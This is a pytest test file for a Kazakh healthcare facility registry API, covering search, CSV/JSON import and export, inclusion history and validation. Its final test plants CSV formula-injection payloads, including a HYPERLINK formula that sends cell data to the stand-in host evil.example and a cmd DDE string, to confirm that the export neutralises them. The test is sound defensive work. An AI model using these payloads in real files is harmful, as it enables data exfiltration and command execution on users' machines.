"""The published list, import/export and inclusion through the HTTP API."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from io import StringIO
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from emhana.accounts.roles import Role
from emhana.accounts.service import Actor
from emhana.facilities import io
from emhana.facilities.models import District, Entity, Inclusion, Site
from tests.builders.facilities import entity_record, site_record


def counts(sessions: sessionmaker[Session]) -> tuple[int, ...]:
    with sessions() as s:
        return tuple(s.scalar(select(func.count()).select_from(t)) or 0 for t in (Entity, Site, District, Inclusion))


def upload(client: TestClient, headers: dict[str, str], name: str, data: bytes, ctype: str = "text/csv") -> Any:
    return client.post("/api/v1/facilities/import", headers=headers, files={"file": (name, data, ctype)})


def test_list_and_search(client: TestClient, seeded_entity: int) -> None:
    page = client.get("/api/v1/facilities/entities").json()
    assert page["total"] == 1 and page["items"][0]["id"] == seeded_entity
    assert page["items"][0]["status"] == "included"
    for q in ("поликлиника №3", "ПОЛИКЛИНИКА", "қалалық", "150340", "пр. абая"):
        assert client.get("/api/v1/facilities/entities", params={"q": q}).json()["total"] == 1, q
    assert client.get("/api/v1/facilities/entities", params={"q": "нет такой"}).json()["total"] == 0
    assert client.get("/api/v1/facilities/entities", params={"region": "710000000"}).json()["total"] == 1
    assert client.get("/api/v1/facilities/entities", params={"region": "750000000"}).json()["total"] == 0
    one = client.get(f"/api/v1/facilities/entities/{seeded_entity}").json()
    assert [s["code"] for s in one["sites"]] == ["S1", "S2"]
    assert client.get("/api/v1/facilities/entities/999999").json()["code"] == "core.not_found"


def test_import_csv_all_or_nothing(
    client: TestClient, auth: Callable[..., dict[str, str]], sessions: sessionmaker[Session]
) -> None:
    admin = auth(Role.FUND_ADMIN)
    good = entity_record()
    other = entity_record("201140004575", sites=[site_record("A1", kato="750000000", lat=43.25, lon=76.91)])
    text = io.write_csv([good, other])
    bad = text.replace("201140004575", "201140004576")
    before = counts(sessions)
    resp = upload(client, admin, "list.csv", bad.encode())
    assert resp.status_code == 422
    body = resp.json()
    assert resp.headers["content-type"].startswith("application/problem+json")
    assert body["code"] == "facilities.import_rejected"
    assert body["errors"][0]["line"] == 4 and body["errors"][0]["field"] == "bin"
    assert body["errors"][0]["code"] == "identity.invalid_bin"
    assert set(body["errors"][0]["messages"]) == {"kk", "ru", "en"}
    assert counts(sessions) == before
    resp = upload(client, admin, "list.csv", text.encode())
    assert resp.status_code == 200, resp.text
    assert resp.json() == {
        "entities_created": 2,
        "entities_updated": 0,
        "sites_created": 3,
        "sites_updated": 0,
        "districts_written": 5,
    }
    again = upload(client, admin, "list.csv", text.encode()).json()
    assert again["entities_created"] == 0 and again["entities_updated"] == 2
    assert counts(sessions)[:3] == (2, 3, 5)


def test_import_json_and_export_round_trip(client: TestClient, auth: Callable[..., dict[str, str]]) -> None:
    admin = auth(Role.FUND_ADMIN)
    data = json.dumps(io.to_json_obj([entity_record()]), ensure_ascii=False).encode()
    assert upload(client, admin, "list.json", data, "application/json").status_code == 200
    exported = client.get("/api/v1/facilities/export?format=json").json()
    assert io.read_json(json.dumps(exported).encode(), {"710000000"}) == ([entity_record()], [])
    csv_resp = client.get("/api/v1/facilities/export?format=csv")
    assert csv_resp.headers["content-type"].startswith("text/csv")
    assert io.read_csv(csv_resp.content, {"710000000"}) == ([entity_record()], [])


def test_import_refuses_malformed_file(
    client: TestClient, auth: Callable[..., dict[str, str]], sessions: sessionmaker[Session]
) -> None:
    before = counts(sessions)
    resp = upload(client, auth(Role.FUND_ADMIN), "list.json", b"[{", "application/json")
    assert resp.status_code == 422 and resp.json()["code"] == "facilities.import_rejected"
    assert counts(sessions) == before


def test_import_needs_fund_admin(client: TestClient, auth: Callable[..., dict[str, str]]) -> None:
    data = io.write_csv([entity_record()]).encode()
    assert upload(client, {}, "x.csv", data).status_code == 401
    assert upload(client, auth(Role.ENTITY_ADMIN), "x.csv", data).json()["code"] == "auth.forbidden"


def test_exclusion_removes_from_list_and_near_and_keeps_history(
    client: TestClient, auth: Callable[..., dict[str, str]], seeded_entity: int
) -> None:
    admin = auth(Role.FUND_ADMIN)
    assert client.get("/api/v1/facilities/near?lat=51.13&lon=71.43").json()
    resp = client.post(
        f"/api/v1/facilities/entities/{seeded_entity}/inclusions",
        headers=admin,
        json={"status": "excluded", "effective_from": "2025-06-01", "reason": "licence revoked"},
    )
    assert resp.status_code == 201, resp.text
    assert client.get("/api/v1/facilities/entities").json()["total"] == 0
    assert client.get("/api/v1/facilities/near?lat=51.13&lon=71.43").json() == []
    history = client.get(f"/api/v1/facilities/entities/{seeded_entity}").json()["inclusions"]
    assert [(h["status"], h["effective_to"]) for h in history] == [("included", "2025-06-01"), ("excluded", None)]
    back = client.post(
        f"/api/v1/facilities/entities/{seeded_entity}/inclusions",
        headers=admin,
        json={"status": "included", "effective_from": "2024-01-01", "reason": "x"},
    )
    assert back.status_code == 422 and back.json()["code"] == "core.invalid_dates"


def test_practitioners(
    client: TestClient,
    auth: Callable[..., dict[str, str]],
    seeded_entity: int,
    sessions: sessionmaker[Session],
    make_actor: Callable[..., tuple[Actor, str]],
) -> None:
    from emhana.facilities.service import apply_records, get_entity_by_bin

    fund, _ = make_actor(Role.FUND_ADMIN)
    with sessions.begin() as s:
        apply_records(session=s, actor=fund, records=[entity_record("201140004575")])
        other_id = get_entity_by_bin(session=s, bin_="201140004575").id
    body = {
        "iin": "880315301280",
        "surname": "Ахметова",
        "given_name": "Айгерім",
        "specialties": ["gp"],
        "title": "врач общей практики",
        "valid_from": "2024-01-01",
    }
    other_admin = auth(Role.ENTITY_ADMIN, entity_id=other_id)
    assert (
        client.post(
            f"/api/v1/facilities/entities/{seeded_entity}/practitioners", headers=other_admin, json=body
        ).status_code
        == 403
    )
    own = auth(Role.ENTITY_ADMIN, entity_id=seeded_entity)
    resp = client.post(f"/api/v1/facilities/entities/{seeded_entity}/practitioners", headers=own, json=body)
    assert resp.status_code == 201, resp.text
    listed = client.get(f"/api/v1/facilities/entities/{seeded_entity}/practitioners").json()
    assert [p["surname"] for p in listed] == ["Ахметова"] and "iin" not in listed[0]
    bad = client.post(
        f"/api/v1/facilities/entities/{seeded_entity}/practitioners", headers=own, json={**body, "iin": "880315301281"}
    )
    assert bad.status_code == 422 and bad.json()["code"] == "identity.invalid_iin"


def entity_body(**kw: Any) -> dict[str, Any]:
    body = io.to_json_obj([entity_record()])[0]
    body.update(kw)
    return body


def test_create_entity(
    client: TestClient, auth: Callable[..., dict[str, str]], sessions: sessionmaker[Session]
) -> None:
    headers = {**auth(Role.FUND_ADMIN), "Idempotency-Key": "ent-1"}
    first = client.post("/api/v1/facilities/entities", json=entity_body(), headers=headers)
    assert first.status_code == 201, first.text
    assert client.post("/api/v1/facilities/entities", json=entity_body(), headers=headers).json() == first.json()
    dup = client.post("/api/v1/facilities/entities", json=entity_body(), headers=auth(Role.FUND_ADMIN))
    assert dup.status_code == 409 and dup.json()["code"] == "facilities.duplicate_bin"
    assert counts(sessions)[:2] == (1, 2)


def test_create_entity_bad_input(
    client: TestClient, auth: Callable[..., dict[str, str]], sessions: sessionmaker[Session]
) -> None:
    admin = auth(Role.FUND_ADMIN)
    site = io.to_json_obj([entity_record()])[0]["sites"][0]
    cases = [
        (entity_body(bin="949940000385"), "identity.invalid_bin"),
        (entity_body(sites=[{**site, "kato": "719999999"}]), "reference.unknown_kato"),
        (entity_body(sites=[{**site, "lat": 48.85, "lon": 2.35}]), "geo.outside_kazakhstan"),
        (entity_body(contract_from="2026-12-31", contract_to="2026-01-01"), "core.invalid_dates"),
        (entity_body(sites=[site, site]), "core.invalid_request"),
        (entity_body(legal_form="kolkhoz"), "core.invalid_request"),
    ]
    for body, code in cases:
        resp = client.post("/api/v1/facilities/entities", json=body, headers=admin)
        assert resp.status_code == 422 and resp.json()["code"] == code, (code, resp.text)
    assert counts(sessions) == (0, 0, 0, 0)


def test_the_public_csv_export_carries_no_formula_cell_and_imports_back_unchanged(
    client: TestClient, auth: Callable[..., dict[str, str]]
) -> None:
    attack = entity_record(
        name_ru='=HYPERLINK("http://evil.example/?"&A2,"Поликлиника")',
        name_kk="@SUM(1+1)",
        sites=[site_record(address_ru="+1+cmd|' /C calc'!A0", address_kk="-2+3")],
    )
    data = json.dumps(io.to_json_obj([attack]), ensure_ascii=False).encode()
    assert upload(client, auth(Role.FUND_ADMIN), "list.json", data, "application/json").status_code == 200
    exported = client.get("/api/v1/facilities/export?format=csv")
    cells = [c for row in csv.reader(StringIO(exported.text)) for c in row]
    assert "'" + attack.name_ru in cells and "'-2+3" in cells
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert io.read_csv(exported.content, {"710000000"}) == ([attack], [])
